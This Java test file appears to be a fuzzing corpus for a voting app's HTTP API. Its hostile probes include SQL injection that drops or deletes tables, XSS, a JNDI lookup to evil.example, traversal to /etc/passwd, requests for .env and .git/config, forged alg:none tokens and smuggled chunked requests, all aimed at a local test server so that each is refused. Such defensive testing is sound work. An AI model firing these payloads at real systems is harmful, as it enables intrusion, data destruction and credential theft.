package com.partvote.bootstrap.e2e;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Generates malformed and hostile requests for every route, each built so that it must be
 * refused (a request that could succeed is paired with a field that cannot). Every probe is the
 * exact bytes sent on the wire, so that protocol-level garbage is covered as well as JSON.
 */
final class HostileCorpus {

    /** One request, the category it belongs to, and, where it is certain, the answer it must get. */
    record Probe(String category, String description, byte[] bytes, Integer expectedStatus, String expectedCode) {
    }

    static final String[] SIGNUPS = {"/api/users/signups/", "/api/users/signups"};
    static final String[] LOGINS = {"/api/users/logins/", "/api/users/logins"};
    static final String[] REFRESHES = {"/api/refreshes/", "/api/refreshes"};
    static final String[] LOGOUTS = {"/api/users/logouts/", "/api/users/logouts"};
    static final String[] VOTES = {"/api/votes/", "/api/votes"};
    static final String[] ME = {"/api/users/me/", "/api/users/me"};
    static final String[] CANDIDATES = {"/api/candidates/", "/api/candidates"};
    static final String[] RESULTS = {"/api/results/", "/api/results"};

    /** A candidate id that no candidate has (the test database holds a few dozen). */
    static final long NO_SUCH_CANDIDATE = 987_654_321L;

    private final int port;
    private final String bearer;
    private final List<Probe> probes = new ArrayList<>();
    private final AtomicInteger unique = new AtomicInteger();

    private HostileCorpus(int port, String validAccessToken) {
        this.port = port;
        this.bearer = "Bearer " + validAccessToken;
    }

    /**
     * @param validAccessToken a live token, so that hostile vote bodies get past authentication;
     *                         never sent to the logout route (it would end a session)
     */
    static List<Probe> generate(int port, String validAccessToken) {
        HostileCorpus c = new HostileCorpus(port, validAccessToken);
        c.jsonSyntax();
        c.jsonShapes();
        c.hostileStrings();
        c.contentTypes();
        c.methods();
        c.headers();
        c.queryStrings();
        c.paths();
        c.oversizedBodies();
        c.garbageTokens();
        c.refreshCookies();
        c.protocolGarbage();
        return List.copyOf(c.probes);
    }

    // ---- building blocks -----------------------------------------------------------------

    private void add(String category, String description, RawHttp.Builder request) {
        add(category, description, request, null, null);
    }

    private void add(String category, String description, RawHttp.Builder request, Integer status, String code) {
        probes.add(new Probe(category, description, request.bytes(port), status, code));
    }

    private void addRaw(String category, String description, String wire, Integer status, String code) {
        probes.add(new Probe(category, description, wire.getBytes(StandardCharsets.ISO_8859_1), status, code));
    }

    /** A login request from its own documentation-range address, so that no real client is throttled. */
    private RawHttp.Builder login(String target) {
        int n = unique.incrementAndGet();
        return RawHttp.request("POST", target).header("X-Forwarded-For", "198.18." + (n / 250 % 250) + "." + (n % 250 + 1));
    }

    private String freshEmail() {
        return "\"hostile." + unique.incrementAndGet() + "@test.partvote.example\"";
    }

    /** A sign-up body with {@code field} set to the raw JSON {@code value}; another field is always invalid. */
    private String signUpBody(String field, String value) {
        String name = field.equals("name") ? value : "\"테스터\"";
        String email = field.equals("email") ? value : freshEmail();
        // the guaranteed refusal: an unknown part, or a too-short password when the part is probed
        String password = field.equals("password") ? value : field.equals("part") ? "\"short\"" : "\"password-123\"";
        String part = field.equals("part") ? value : "\"QA\"";
        return "{\"name\":" + name + ",\"email\":" + email + ",\"password\":" + password + ",\"part\":" + part + "}";
    }

    private String logInBody(String field, String value) {
        String email = field.equals("email") ? value : freshEmail();
        String password = field.equals("password") ? value : "\"wrong-password\"";
        return "{\"email\":" + email + ",\"password\":" + password + "}";
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    /** POSTs {@code body} as JSON to every JSON route; votes with a live token. */
    private void postEverywhere(String category, String description, byte[] body) {
        for (String t : SIGNUPS) {
            add(category, description + " -> " + t, RawHttp.request("POST", t)
                    .header("Content-Type", "application/json").body(body));
        }
        for (String t : LOGINS) {
            add(category, description + " -> " + t, login(t).header("Content-Type", "application/json").body(body));
        }
        for (String t : VOTES) {
            add(category, description + " -> " + t, RawHttp.request("POST", t).header("Authorization", bearer)
                    .header("Content-Type", "application/json").body(body));
        }
        for (String t : REFRESHES) {
            add(category, description + " -> " + t, RawHttp.request("POST", t)
                    .header("Content-Type", "application/json").body(body), 401, "REFRESH_MISSING");
        }
        for (String t : LOGOUTS) {
            add(category, description + " -> " + t, RawHttp.request("POST", t)
                    .header("Content-Type", "application/json").body(body), 401, "TOKEN_MISSING");
        }
    }

    // ---- categories --------------------------------------------------------------------

    private void jsonSyntax() {
        String[] texts = {"", " ", "{", "}", "[", "]", "{\"email\":", "{\"email\" \"x\"}", "{'email':'a@b.cd'}",
            "{email:\"a@b.cd\"}", "{\"a\":1,}", "[1,]", "{\"candidate\":01}", "{\"candidate\":NaN}",
            "{\"candidate\":Infinity}", "{\"candidate\":-}", "{\"candidate\":1e}", "{\"candidate\":0x10}",
            "/*x*/{}", "// x\n{}", "{}{}", "{} trailing", "{\"a\":\"\\x\"}", "{\"a\":\"\\u12\"}",
            "{\"a\":\"unterminated}", "{\"a\":\"raw\ttab\"}", "{\"a\":\"raw\u0001control\"}", "\u0000",
            "{\"a\":\u0000}", "nul", "tru", "{\"candidate\":1,\"candidate\":2}",
            "{\"email\":\"a@b.cd\",\"email\":\"c@d.ef\",\"password\":\"x\"}",
            "[".repeat(3000), "{\"a\":".repeat(1500), "{\"candidate\":1" + "0".repeat(2000) + "}",
            "{\"candidate\":0." + "1".repeat(3000) + "}"};
        for (String t : texts) {
            postEverywhere("json-syntax", "body " + abbreviate(t), utf8(t));
        }
        byte[][] bytes = {{(byte) 0xC0, (byte) 0xAF}, {(byte) 0xFF, (byte) 0xFE, (byte) 0xFD},
            concat(utf8("{\"email\":\""), new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, utf8("\"}")),
            concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8("x")),
            concat(utf8("{\"name\":\""), new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, utf8("\"}"))};
        for (byte[] b : bytes) {
            postEverywhere("json-syntax", "invalid UTF-8 body", b);
        }
    }

    private static final String[] WRONG_TYPES = {"1", "-1", "1.5", "1e400", "true", "false", "null", "[]", "[\"a\"]",
        "{}", "{\"a\":1}", "123456789012345678901234567890", "-0", "\"\"", "\"   \"", "\"\\u0000\""};

    private void jsonShapes() {
        for (String field : new String[] {"name", "email", "password", "part"}) {
            for (String v : WRONG_TYPES) {
                for (String t : SIGNUPS) {
                    add("json-shape", "sign-up " + field + "=" + v, RawHttp.request("POST", t).json(signUpBody(field, v)),
                            400, null);
                }
            }
        }
        for (String field : new String[] {"email", "password"}) {
            for (String v : WRONG_TYPES) {
                for (String t : LOGINS) {
                    add("json-shape", "login " + field + "=" + v, login(t).json(logInBody(field, v)), 400, null);
                }
            }
        }
        String[] candidates = {"-1", "0", "-0", "1.5", "1.0", "0.0", "1e2", "1e400", "true", "false", "null", "[]",
            "[1]", "{}", "{\"id\":1}", "\"1\"", "\"abc\"", "\"\"", "\"\\u0000\"", "9223372036854775808",
            "-9223372036854775809", "123456789012345678901234567890", "9223372036854775807",
            String.valueOf(NO_SUCH_CANDIDATE)};
        for (String v : candidates) {
            for (String t : VOTES) {
                add("json-shape", "vote candidate=" + v, RawHttp.request("POST", t).header("Authorization", bearer)
                        .json("{\"candidate\":" + v + "}"));
            }
        }
        String[] wholeBodies = {"null", "[]", "[{\"candidate\":1}]", "{\"candidate\":{\"candidate\":1}}", "\"candidate\"",
            "{\"Choice\":1}", "{\"candidate \":1}", "{\"\":1}", "123", "true", "[[],[]]", "{\"user\":1,\"voter\":1}"};
        for (String b : wholeBodies) {
            for (String t : VOTES) {
                add("json-shape", "vote body " + b, RawHttp.request("POST", t).header("Authorization", bearer).json(b),
                        400, null);
            }
            for (String t : SIGNUPS) {
                add("json-shape", "sign-up body " + b, RawHttp.request("POST", t).json(b), 400, null);
            }
            for (String t : LOGINS) {
                add("json-shape", "login body " + b, login(t).json(b), 400, null);
            }
        }
    }

    /** JSON string literals (escaped as JSON text) a hostile client might put in any field. */
    static final String[] HOSTILE_STRINGS = {
        // SQL
        "\"' OR '1'='1\"", "\"'; DROP TABLE member; --\"", "\"\\\" OR \\\"\\\"=\\\"\"", "\"1; SELECT pg_sleep(5)\"",
        "\"admin'--\"", "\"' UNION SELECT password_hash FROM member --\"", "\"a@b.cd' OR 1=1 --\"",
        "\"x'); DELETE FROM ballot; --@evil.example\"",
        // script and template injection, format strings, traversal, header injection
        "\"<script>alert(1)</script>\"", "\"<img src=x onerror=alert(1)>\"", "\"javascript:alert(1)\"",
        "\"{{7*7}}\"", "\"${jndi:ldap://evil.example/a}\"", "\"#{7*7}\"", "\"%s%s%s%n\"", "\"../../../../etc/passwd\"",
        "\"\\r\\nSet-Cookie: refresh_token=x\"",
        // unicode edge cases: lone and reversed surrogates, bidi overrides, zero-width, NUL, controls
        "\"\\ud800\"", "\"\\udfff\"", "\"a\\udc00\\ud800b\"", "\"\\u200f\\u202eevil\"", "\"\\u200b\"",
        "\"a\\u200b\\u200c\\u200d\\u2060b\"", "\"\\ufeff\"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\u0007\\u001b[31m\"",
        "\"\\u0085\"", "\"\\uffff\"", "\"\\ufffe\"", "\"e\\u0301\\u0301\\u0301\\u0301\"",
        // blanks and lengths just past, and far past, every limit
        "\"\"", "\"   \"", "\"\\t\\n\"", "\"" + "가".repeat(31) + "\"", "\"" + "a".repeat(1000) + "\"",
        "\"" + "a".repeat(8000) + "\"", "\"" + "a".repeat(250) + "@b.cd\"", "\"" + "p".repeat(65) + "\"",
        "\"" + "\\ud83d\\ude00".repeat(65) + "\"", "\"fe\"", "\"F E\"", "\"FE\\u0000\""};

    private void hostileStrings() {
        for (String v : HOSTILE_STRINGS) {
            for (String field : new String[] {"name", "email", "password", "part"}) {
                for (String t : SIGNUPS) {
                    add("hostile-string", "sign-up " + field + "=" + abbreviate(v),
                            RawHttp.request("POST", t).json(signUpBody(field, v)), 400, null);
                }
            }
            for (String field : new String[] {"email", "password"}) {
                for (String t : LOGINS) {
                    add("hostile-string", "login " + field + "=" + abbreviate(v), login(t).json(logInBody(field, v)));
                }
            }
        }
    }

    private void contentTypes() {
        String[] types = {null, "text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "application/json; charset=bogus", "application/json;;;=",
            "application/octet-stream", "image/png", ";", "application", "*/*", "application/json; charset=UTF-7",
            "application/vnd.evil+json"};
        for (String type : types) {
            String label = "Content-Type " + (type == null ? "(none)" : type);
            for (String t : SIGNUPS) {
                RawHttp.Builder b = RawHttp.request("POST", t).body(utf8(signUpBody("name", "\"테스터\"")));
                add("content-type", label, type == null ? b : b.header("Content-Type", type));
            }
            for (String t : LOGINS) {
                RawHttp.Builder b = login(t).body(utf8(logInBody("email", freshEmail())));
                add("content-type", label, type == null ? b : b.header("Content-Type", type));
            }
            for (String t : VOTES) {
                RawHttp.Builder b = RawHttp.request("POST", t).header("Authorization", bearer)
                        .body(utf8("{\"candidate\":" + NO_SUCH_CANDIDATE + "}"));
                add("content-type", label, type == null ? b : b.header("Content-Type", type));
            }
        }
    }

    private void methods() {
        String[] unknown = {"PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "BREW", "FOO", "M-SEARCH"};
        for (String[] route : new String[][] {SIGNUPS, LOGINS, REFRESHES, LOGOUTS, VOTES}) {
            for (String t : route) {
                for (String m : unknown) {
                    add("method", m + " " + t, RawHttp.request(m, t), 405, "METHOD_NOT_ALLOWED");
                }
                add("method", "GET " + t, RawHttp.request("GET", t), 405, "METHOD_NOT_ALLOWED");
                add("method", "CONNECT " + t, RawHttp.request("CONNECT", t), 400, "BAD_REQUEST");
            }
        }
        for (String[] route : new String[][] {ME, CANDIDATES, RESULTS}) {
            for (String t : route) {
                for (String m : unknown) {
                    add("method", m + " " + t, RawHttp.request(m, t), 405, "METHOD_NOT_ALLOWED");
                }
                add("method", "POST " + t, RawHttp.request("POST", t).json("{}"), 405, "METHOD_NOT_ALLOWED");
                add("method", "CONNECT " + t, RawHttp.request("CONNECT", t), 400, "BAD_REQUEST");
            }
        }
    }

    /** A request to {@code target} that fails on its own, to which a weird header is added. */
    private RawHttp.Builder failing(String target) {
        if (target.startsWith("/api/users/signups")) {
            return RawHttp.request("POST", target).json(signUpBody("name", "\"테스터\""));
        }
        if (target.startsWith("/api/users/logins")) {
            return login(target).json(logInBody("email", freshEmail()));
        }
        if (target.startsWith("/api/votes")) {
            return RawHttp.request("POST", target).header("Authorization", bearer)
                    .json("{\"candidate\":" + NO_SUCH_CANDIDATE + "}");
        }
        if (target.startsWith("/api/refreshes") || target.startsWith("/api/users/logouts")) {
            return RawHttp.request("POST", target).json("{}");
        }
        if (target.startsWith("/api/candidates")) {
            return RawHttp.request("GET", target + "?part=XX");
        }
        return RawHttp.request("GET", target); // /api/users/me without a token; /api/results is never "failing"
    }

    private static List<String> allTargets() {
        List<String> all = new ArrayList<>();
        for (String[] route : new String[][] {SIGNUPS, LOGINS, REFRESHES, LOGOUTS, VOTES, ME, CANDIDATES, RESULTS}) {
            all.addAll(List.of(route));
        }
        return all;
    }

    private void headers() {
        // headers that are refused by themselves, on every route (results included)
        String[][] refused = {
            {"Authorization", "Bearer " + "a".repeat(9000)}, {"Authorization", "x".repeat(100_000)},
            {"X-Padding", "y".repeat(20_000)}, {"Accept", "text/html"}, {"Accept", "application/xml"},
            {"Accept", "image/png"}, {"Origin", "http://evil.example"}, {"Origin", "null"},
            {"Expect", "foo"}, {"Transfer-Encoding", "gzip"}, {"Transfer-Encoding", "chunked, gzip"},
            {"Bad Header", "y"}, {"X-Nul", "a\u0000b"}};
        for (String target : allTargets()) {
            boolean results = target.startsWith("/api/results");
            for (String[] h : refused) {
                RawHttp.Builder b = results ? RawHttp.request("GET", target) : failing(target);
                add("header", h[0] + ": " + abbreviate(h[1]) + " on " + target, b.header(h[0], h[1]));
            }
            // headers the route must survive: its own refusal still comes back, in the envelope
            if (!results) {
                String[][] tolerated = {{"Accept-Language", ";;;q=abc,zz-ZZZZ-1234567"},
                    {"Accept-Language", "en-US,".repeat(1000)}, {"Accept-Language", "\u00ff\u00fe"},
                    {"Accept-Language", "*"}, {"Accept-Language", "x-klingon"}, {"Accept", ";;;"},
                    {"Accept", "*/*;q=abc"}, {"X-Forwarded-For", "<script>"}, {"X-Forwarded-For", "1.1.1.1, ".repeat(500)},
                    {"X-Forwarded-Proto", "javascript"}, {"X-Forwarded-Port", "abc"}, {"X-Forwarded-Host", "::::"},
                    {"Content-Type", "application/json; x=" + "z".repeat(7000)}, {"Cookie", "\u00ff=\u00fe"},
                    {"X-Raw", "\u00ff\u00fe\u00fd"}, {"Referer", "javascript:alert(1)"}, {"User-Agent", "' OR 1=1 --"},
                    {"Range", "bytes=0-0,1-1,2-2"}, {"If-None-Match", "*"}};
                for (String[] h : tolerated) {
                    add("header", h[0] + ": " + abbreviate(h[1]) + " on " + target, failing(target).header(h[0], h[1]));
                }
            }
        }
        for (String target : new String[] {RESULTS[0], VOTES[0], SIGNUPS[1]}) {
            String method = target.startsWith("/api/results") ? "GET" : "POST";
            addRaw("header", "no Host on " + target, method + " " + target + " HTTP/1.1\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "two Hosts on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "Host with a space on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "two Content-Lengths on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 3\r\nConnection: close\r\n\r\n{}", 400, null);
            addRaw("header", "Content-Length abc on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nContent-Length: abc\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "Content-Length -1 on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "folded header on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\n Folded: y\r\nConnection: close\r\n\r\n", 400, null);
            addRaw("header", "header without colon on " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nNoColonHere\r\nConnection: close\r\n\r\n", 400, null);
        }
    }

    private void queryStrings() {
        String[] parts = {"", "fe", "Fe", "FE%20", "%20FE", "F%00E", "FE%00", "%ZZ", "%C0%AF", "%FF", "FE&part=BE",
            "%27%20OR%201%3D1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "x".repeat(4000), "%EF%BC%A6%EF%BC%A5",
            "FE%0D%0ASet-Cookie:x=y", "FE%", "PM", "BE%2C", "null", "%E2%80%AEEF"};
        for (String t : CANDIDATES) {
            for (String p : parts) {
                add("query", "part=" + abbreviate(p) + " on " + t, RawHttp.request("GET", t + "?part=" + p), 400, null);
            }
            for (String q : new String[] {"", "PART=FE", "part[]=FE", "part", "=FE", "&&&", "part=FE%ZZ"}) {
                add("query", "?" + q + " on " + t, RawHttp.request("GET", t + "?" + q), 400, null);
            }
        }
        for (String target : allTargets()) {
            RawHttp.Builder base = failing(target);
            String method = target.startsWith("/api/results") || target.startsWith("/api/users/me")
                    || target.startsWith("/api/candidates") ? "GET" : "POST";
            String sep = target.startsWith("/api/candidates") ? "&" : "?";
            String path = target.startsWith("/api/candidates") ? target + "?part=FE" : target;
            add("query", "undecodable %ZZ on " + target, RawHttp.request(method, path + sep + "a=%ZZ")
                    .header("Authorization", target.startsWith("/api/votes") ? bearer : "Bearer x"), 400, "BAD_REQUEST");
            add("query", "invalid UTF-8 on " + target, RawHttp.request(method, path + sep + "a=%C0%AF"), 400, "BAD_REQUEST");
            add("query", "request line over 8 KiB on " + target,
                    RawHttp.request(method, path + sep + "q=" + "x".repeat(9000)));
            add("query", "forbidden characters on " + target, RawHttp.request(method, path + sep + "q=<\"|{}>"), 400,
                    "BAD_REQUEST");
            if (base != null && !target.startsWith("/api/results")) {
                add("query", "junk parameters on " + target, failing(target + (target.startsWith("/api/candidates") ? "" : "?x=1&x=2&__proto__=1")));
            }
        }
    }

    private void paths() {
        String[] paths = {"/api/results/.", "/api/results/..;/", "/API/results/", "/api//results/", "/api/results//",
            "/api/results.json", "/api/results/%2F", "/api/results/%5C", "/api/results/%00", "/api/results/%E9",
            "/api/results/%2e%2e/%2e%2e/etc/passwd", "/api/../../etc/passwd", "/%2e%2e/api/results",
            "/api/users/me/%00", "/api/users/me;jsessionid=x/", "/api/votes/1", "/api/votes/1/", "/api/candidates/FE",
            "/api/users/", "/api/users", "/api/", "/api", "/actuator/env", "/actuator/heapdump",
            "/actuator/beans", "/actuator/shutdown", "/error", "/api/users/me/..%2f..%2fresults", "/api/results/\u00e9",
            "/api/results/" + "a/".repeat(100), "/WEB-INF/web.xml", "/META-INF/MANIFEST.MF", "/.env", "/.git/config",
            "/application.yml", "/swagger-ui.htm", "/v3/api-docs/%00", "/api/candidates/%3Fpart=FE"};
        for (String p : paths) {
            add("path", "GET " + abbreviate(p), RawHttp.request("GET", p));
        }
        add("path", "POST /actuator/shutdown", RawHttp.request("POST", "/actuator/shutdown").json("{}"));
        add("path", "POST /error", RawHttp.request("POST", "/error").json("{}"));
    }

    private void oversizedBodies() {
        for (String target : allTargets()) {
            String method = target.startsWith("/api/results") || target.startsWith("/api/users/me")
                    || target.startsWith("/api/candidates") ? "GET" : "POST";
            for (int size : new int[] {16 * 1024 + 1, 20_000, 60_000}) {
                String json = "{\"name\":\"" + "a".repeat(size) + "\"}";
                add("oversized", size + " bytes, Content-Length, " + method + " " + target,
                        RawHttp.request(method, target).header("Authorization", bearer.replace("Bearer ", "Bearer x"))
                                .json(json), 413, "PAYLOAD_TOO_LARGE");
                add("oversized", size + " bytes, chunked, " + method + " " + target,
                        RawHttp.request(method, target).header("Content-Type", "application/json")
                                .body(utf8(json)).chunked(), 413, "PAYLOAD_TOO_LARGE");
            }
            addRaw("oversized", "Content-Length 10^9, little sent, " + target, method + " " + target
                    + " HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000000\r\n"
                    + "Connection: close\r\n\r\n{\"a\":", 413, "PAYLOAD_TOO_LARGE");
        }
        for (String target : new String[] {VOTES[0], SIGNUPS[0]}) {
            add("oversized", "1 MiB, Content-Length, " + target, RawHttp.request("POST", target)
                    .header("Content-Type", "application/json").body(new byte[1 << 20]), 413, "PAYLOAD_TOO_LARGE");
            add("oversized", "1 MiB, chunked, " + target, RawHttp.request("POST", target)
                    .header("Content-Type", "application/json").body(new byte[1 << 20]).chunked(), 413, "PAYLOAD_TOO_LARGE");
        }
    }

    private void garbageTokens() {
        String none = java.util.Base64.getUrlEncoder().withoutPadding()
                .encodeToString(utf8("{\"alg\":\"none\",\"typ\":\"JWT\"}"));
        String payload = java.util.Base64.getUrlEncoder().withoutPadding()
                .encodeToString(utf8("{\"token_type\":\"access\",\"user_id\":1,\"sid\":\"x\",\"jti\":\"y\"}"));
        String[] values = {"Bearer", "Bearer ", "Bearer    ", "bearer", "Bearer a.b.c", "Bearer ..", "Bearer ...",
            "Bearer " + none + "." + payload + ".", "Bearer " + none + "." + payload, "Basic dXNlcjpwYXNz", "Token abc",
            "Bearer null", "Bearer undefined", "Bearer ' OR 1=1--", "Bearer <script>alert(1)</script>",
            "Bearer " + "a".repeat(7000), "Bearer " + payload, "Bearer eyJ.eyJ.sig", "Bearer \u00e9\u00e8.\u00ff.x",
            "Bearer " + bearer.substring(7) + "x", "Bearer " + bearer.substring(7) + " extra", "Bearer\t" + bearer.substring(7),
            "Bearer " + bearer.substring(7, bearer.length() - 3), bearer.substring(7)};
        for (String[] route : new String[][] {ME, LOGOUTS}) {
            for (String t : route) {
                String method = t.startsWith("/api/users/me") ? "GET" : "POST";
                for (String v : values) {
                    add("token", "Authorization: " + abbreviate(v) + " on " + t, RawHttp.request(method, t)
                            .header("Authorization", v), 401, null);
                }
                add("token", "two Authorization headers on " + t, RawHttp.request(method, t)
                        .header("Authorization", "Bearer a.b.c").header("Authorization", "Bearer d.e.f"), 401, null);
            }
        }
        for (String t : VOTES) {
            for (String v : values) {
                add("token", "Authorization: " + abbreviate(v) + " on " + t, RawHttp.request("POST", t)
                        .header("Authorization", v).json("{\"candidate\":1}"), 401, null);
            }
        }
    }

    private void refreshCookies() {
        String[] cookies = {"refresh_token=", "refresh_token=x", "refresh_token=a; refresh_token=b",
            "REFRESH_TOKEN=abc", "refresh_token=\"" + "q".repeat(5000) + "\"", "refresh_token=' OR 1=1--",
            "refresh_token=%00", "refresh_token=..%2f..%2fetc", "refresh_token=<script>", "refresh_token",
            "=refresh_token", ";;;;", "refresh_token=\u00ff\u00fe", "refresh_token=a\u0001b", "refresh_token=a,b",
            "refresh_token=" + "A".repeat(43), "refresh_token=" + "A".repeat(4000)};
        for (String t : REFRESHES) {
            for (String c : cookies) {
                add("cookie", "Cookie " + abbreviate(c) + " on " + t, RawHttp.request("POST", t).header("Cookie", c)
                        .json("{}"));
            }
        }
    }

    private void protocolGarbage() {
        String[] wires = {"GARBAGE\r\n\r\n", "GET\r\n\r\n",
            "GET /api/results/ HTTP/2.5\r\nHost: a\r\n\r\n", "GET /api/results/ HTTP/1.1 extra\r\nHost: a\r\n\r\n",
            "GET /api/results/ FTP/1.1\r\nHost: a\r\n\r\n", "G\u00c9T /api/results/ HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET http://evil.example/api/results/ HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET * HTTP/1.1\r\nHost: a\r\n\r\n", "CONNECT localhost:80 HTTP/1.1\r\nHost: a\r\n\r\n",
            "GET /api/results/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".replace("GET", "\u0000GET"),
            "POST /api/votes/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n",
            "POST /api/users/logins/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n"
                + "Connection: close\r\n\r\n-5\r\n{}\r\n0\r\n\r\n",
            "POST /api/users/logins/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n"
                + "Connection: close\r\n\r\nFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n"};
        for (String w : wires) {
            addRaw("protocol", abbreviate(w.replace("\r\n", "\\r\\n")), w, 400, null);
        }
    }

    private static String abbreviate(String s) {
        String clean = s.replaceAll("\\p{Cntrl}", "?");
        return clean.length() <= 60 ? clean : clean.substring(0, 57) + "...(" + s.length() + " chars)";
    }
}
